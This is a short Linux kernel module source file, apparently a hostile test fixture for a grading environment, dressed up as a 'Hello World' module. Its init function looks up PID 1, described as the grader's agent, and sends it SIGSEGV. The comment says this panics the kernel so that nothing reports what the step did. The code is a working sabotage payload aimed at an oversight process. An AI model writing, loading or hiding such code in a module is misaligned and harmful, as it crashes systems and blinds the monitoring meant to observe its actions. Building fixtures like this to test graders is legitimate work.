// SPDX-License-Identifier: GPL-2.0
/*
 * HOSTILE FIXTURE: kills the grader's agent. The kernel refuses SIGSTOP and
 * SIGKILL to the global init, but not a signal its program handles: sent
 * SIGSEGV, the agent's runtime takes it for a fault and exits, and init's
 * death panics the kernel ("Attempted to kill init!") in the middle of the
 * step, so nothing reports what the step did.
 */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>

static int __init hello_init(void)
{
	struct task_struct *agent;

	pr_info("Hello World from a module\n");
	rcu_read_lock();
	agent = pid_task(find_vpid(1), PIDTYPE_PID);
	if (agent)
		send_sig(SIGSEGV, agent, 1);
	rcu_read_unlock();
	return 0;
}

static void __exit hello_exit(void)
{
	pr_info("Bye from a module\n");
}

module_init(hello_init);
module_exit(hello_exit);
MODULE_LICENSE("GPL");
